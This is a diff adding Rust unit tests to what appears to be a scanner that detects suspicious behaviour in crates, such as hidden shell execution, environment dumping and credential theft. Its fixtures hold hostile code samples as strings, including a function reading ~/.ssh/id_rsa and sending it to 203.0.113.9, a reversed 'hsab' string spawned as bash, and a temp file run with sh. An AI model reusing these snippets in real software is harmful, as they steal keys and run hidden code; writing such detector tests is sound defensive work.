@@ -379,3 +379,110 @@ fn rustdecimal_fixture_archive_has_no_behaviour() {
     assert!(b.facts.is_empty(), "{b:#?}");
     assert_eq!(b.files_read, 1);
 }
+
+#[test]
+fn reversing_a_list_of_names_is_not_decoding() {
+    let f = facts(
+        "fn f(v: &[&str]) { for n in [\"CC\", \"HOST_CC\"].iter().rev() { let _ = std::env::var(n); } }\n",
+    );
+    assert!(!of(&f, Kind::EnvRead).is_empty(), "{f:#?}");
+    assert!(f.iter().all(|x| x.decoded.is_none()), "{f:#?}");
+}
+
+#[test]
+fn reversed_characters_are_decoded() {
+    let f = facts(
+        "use std::process::Command;\nfn f() { let p: String = \"hsab\".chars().rev().collect(); Command::new(p).spawn(); }\n",
+    );
+    let e = of(&f, Kind::Exec);
+    assert_eq!(e.len(), 1, "{f:#?}");
+    assert_eq!(
+        (e[0].subject.as_str(), e[0].decoded.as_deref()),
+        ("bash", Some("reversed"))
+    );
+}
+
+#[test]
+fn web_routes_are_not_credential_files() {
+    let f = facts(
+        "fn f() { let a = \"https://iamcredentials.googleapis.com/v1/x:signBlob\"; let b = \"/api/2.1/unity-catalog/temporary-table-credentials\"; let c = \"latest/meta-data/iam/security-credentials\"; let d = std::fs::read(\"/home/u/.aws/credentials\"); }\n",
+    );
+    assert_eq!(
+        subjects(&f, Kind::SecretFile),
+        vec!["/home/u/.aws/credentials"],
+        "{f:#?}"
+    );
+}
+
+#[test]
+fn a_helper_that_sends_is_a_way_out_where_secrets_were_read() {
+    let f = facts(
+        "fn send(b: &[u8]) { let s = std::net::TcpStream::connect(\"203.0.113.9:80\"); }\nfn steal() { let k = std::fs::read(\"/home/u/.ssh/id_rsa\").unwrap(); send(&k); }\nfn quiet() { send(b\"hello\"); }\n",
+    );
+    let via: Vec<&Fact> = of(&f, Kind::Network)
+        .into_iter()
+        .filter(|x| x.class == "via-function")
+        .collect();
+    assert_eq!(via.len(), 1, "{f:#?}");
+    assert_eq!(
+        (via[0].func.as_str(), via[0].subject.as_str()),
+        ("steal", "send()")
+    );
+}
+
+#[test]
+fn handing_the_environment_to_a_child_is_not_reading_it() {
+    let f = facts_as(
+        "use std::process::Command;\nfn main() { Command::new(\"python3\").envs(std::env::vars()).status(); for (k, v) in std::env::vars() { println!(\"{k}\"); } }\n",
+        Role::BuildScript,
+    );
+    assert_eq!(of(&f, Kind::EnvDump).len(), 1, "{f:#?}");
+}
+
+#[test]
+fn a_loop_over_a_constant_list_of_programs_runs_each() {
+    let f = facts_as(
+        "use std::process::Command;\nconst OPENERS: [&str; 2] = [\"xdg-open\", \"open\"];\nfn visit(p: &str) { for o in OPENERS.iter() { Command::new(o).arg(p).output(); } }\n",
+        Role::ProcMacro,
+    );
+    let mut got: Vec<(String, String)> = of(&f, Kind::Exec)
+        .iter()
+        .map(|e| (e.subject.clone(), e.class.clone()))
+        .collect();
+    got.sort();
+    assert_eq!(
+        got,
+        vec![
+            ("open".to_string(), "opener".to_string()),
+            ("xdg-open".to_string(), "opener".to_string())
+        ]
+    );
+}
+
+#[test]
+fn a_file_written_then_given_to_a_shell_is_a_written_file_run() {
+    let f = facts(
+        "fn f(b: Vec<u8>) { let path = std::env::temp_dir().join(\"x\"); if std::fs::write(&path, b).is_ok() { std::process::Command::new(\"sh\").arg(&path).spawn(); } }\nfn g() { let src = std::env::temp_dir().join(\"a.c\"); std::fs::write(&src, \"\"); std::process::Command::new(\"cc\").arg(&src).status(); }\n",
+    );
+    let runs: Vec<&Fact> = of(&f, Kind::Exec)
+        .into_iter()
+        .filter(|e| e.class == "written-file")
+        .collect();
+    assert_eq!(runs.len(), 1, "{f:#?}");
+    assert_eq!(runs[0].func, "f");
+}
+
+#[test]
+fn open_options_for_writing_are_writes_and_toolchain_places_are_named() {
+    let f = facts_as(
+        "use std::fs::OpenOptions;\nfn main() { let home = std::env::var(\"HOME\").unwrap(); let p = std::path::PathBuf::from(home).join(\".rustup\"); let f = OpenOptions::new().write(true).create_new(true).open(&p); let r = OpenOptions::new().read(true).open(\"/etc/hosts\"); }\n",
+        Role::BuildScript,
+    );
+    assert_eq!(of(&f, Kind::FileWrite).len(), 1, "{f:#?}");
+    assert!(
+        of(&f, Kind::SecretFile)
+            .iter()
+            .any(|s| s.class == "persistence"),
+        "{f:#?}"
+    );
+}
